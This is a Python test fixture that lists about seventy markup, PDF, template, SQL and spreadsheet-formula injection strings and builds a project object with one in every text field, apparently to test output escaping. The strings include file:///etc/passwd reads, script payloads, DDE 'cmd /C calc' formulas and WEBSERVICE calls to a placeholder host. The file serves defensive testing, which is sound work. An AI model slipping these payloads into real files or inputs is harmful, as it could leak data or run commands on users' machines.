"""Seventy texts that another program would take for more than text, and a project that says them everywhere."""

from models.domain.bill import Bill, BillLine
from models.domain.evidence import Evidence
from models.domain.product import EnvironmentalSet, ProductCard
from models.domain.project import (
    Assessment,
    Building,
    DecisionKind,
    FindingDecision,
    LimitOverride,
    Project,
    Variant,
)
from models.domain.quantities import KG
from models.domain.source import SourceRef, SourceStatus

MARKUP = (
    "A<B>C",
    "<i>schuin",
    "</para>",
    '<img src="file:///etc/passwd"/>',
    "<img src='\\\\server\\share\\x.png' width='10' height='10'/>",
    '<a href="http://voorbeeld.invalid/">klik</a>',
    '<link href="#doel">x</link>',
    '<font color="[[[getattr(pow, 1)]]]">x</font>',
    '<font name="../../geheim" size=900>x</font>',
    '<para onDraw="stuk">x</para>',
    "<onDraw name='x' label='y'/>",
    "<seq id='a'/><super>2</super>",
    "&lt;b&gt; &amp; &#65; &euro;",
    "<!-- weg --> zichtbaar",
    "<![CDATA[ruw]]>",
    "<?xml version='1.0'?>",
    "<unichar code='65'/>",
    "<br/><br/>regel",
    "<bullet>x</bullet>",
    "<index item='x'/>",
    "%(naam)s {naam} {0} $naam",
    "=1+1 @SOM() +x -y",
    "(haakje \\( )) Tj ET",
    "endstream endobj 1 0 obj",
    "%PDF-1.7 %%EOF",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<style>*{display:none}</style>",
    '<table background="http://voorbeeld.invalid/x">',
    "javascript:alert(1)",
    "file:///C:/Windows/win.ini",
    "\\\\voorbeeld.invalid\\share\\x",
    "<b>vet</b> &amp;lt;dubbel&amp;gt;",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE projects; --",
)
FORMULAS = (
    "=1+1",
    "=SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://voorbeeld.invalid/?\"&A1;\"klik\")",
    '=WEBSERVICE("http://voorbeeld.invalid/")',
    '=IMPORTXML("http://voorbeeld.invalid/";"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SOM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "\"=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SOM(1)",
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "%0A=1+1",
    "=A1:XFD1048576",
    "{=1+1}",
    "=0/0",
    "#REF!",
    "_x003D_1+1",
    "_x0009_=1+1",
    "1E+308",
    "0012",
)  # fmt: skip
PAYLOADS = (*MARKUP, *FORMULAS)


def spread(count: int) -> tuple[str, ...]:
    """`count` payloads, evenly over all of them."""
    return tuple(PAYLOADS[place * len(PAYLOADS) // count] for place in range(count))


def hostile_project(payload: str) -> Project:
    """A project that can be scored, with the payload in every field that takes any text."""
    source = SourceRef(payload, payload, payload, SourceStatus.UNVERIFIED, payload)
    card = ProductCard(payload, payload, payload, KG, mki_a1_eur_per_unit=1.0, sources={"": source}, note=payload)
    line = BillLine(
        id=payload, description=payload, quantity=2.5, unit=KG, nl_sfb=payload, product_id=payload, source=payload,
        note=payload, extra=((payload, payload),),
    )  # fmt: skip
    evidence = Evidence(payload, file_name=payload)
    building = Building(
        gross_floor_area_m2=100.0, mpg_limit_override=LimitOverride(0.8, EnvironmentalSet.A1, payload)
    )
    variant = Variant(
        payload, payload, building=building, bill=Bill((line,)), products=(card,), extra=((payload, payload),),
        assessments=(Assessment("beng1", 52.0, evidence=evidence, note=payload),),
        decisions=(FindingDecision(payload, DecisionKind.ACCEPTED, payload),),
    )  # fmt: skip
    return Project(payload, payload, municipality=payload, address=payload, client=payload, variants=(variant,))
